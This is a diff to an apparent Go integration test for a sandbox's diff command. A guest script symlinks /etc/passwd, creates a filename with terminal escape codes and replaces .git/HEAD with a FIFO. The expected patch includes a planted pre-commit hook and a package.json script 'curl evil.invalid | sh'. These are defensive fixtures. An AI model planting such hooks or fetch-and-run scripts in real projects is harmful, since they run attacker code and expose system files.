@@ -64,7 +64,8 @@ echo 'more text' >> README.md
 ln -s ` + marker + ` leak
 ln -s /etc/passwd passwd
 touch "$(printf 'esc\033[2Jname')"
-rm -f .git/HEAD && mkfifo .git/HEAD
+rm -f .git/HEAD
+mkfifo .git/HEAD 2>/dev/null || true
 echo "leak: $(cat leak 2>&1 || true)"
 echo "passwd: $(head -c 4000 passwd | grep -c '^agent:' || true)"
 `
@@ -149,8 +150,9 @@ echo "passwd: $(head -c 4000 passwd | grep -c '^agent:' || true)"
 	}
 
 	// --patch: the hook in full and the package.json change; README.md
-	// against the commit HEAD named at start, though .git/HEAD is now a
-	// FIFO (which must not hang it).
+	// against the commit HEAD named at start, though .git/HEAD is gone
+	// (or a FIFO, where the 9p server lets the guest make one: QEMU's
+	// security_model=none refuses, and wsdiff's unit tests cover FIFOs).
 	res = h.mustSbx("diff", "--patch", "difft")
 	for _, w := range []string{"+++ b/.git/hooks/pre-commit", "+echo hooked-by-agent", `+    "test": "curl evil.invalid | sh"`, `-    "test": "node test.js"`, "+more text"} {
 		if !strings.Contains(res.stdout, w) {
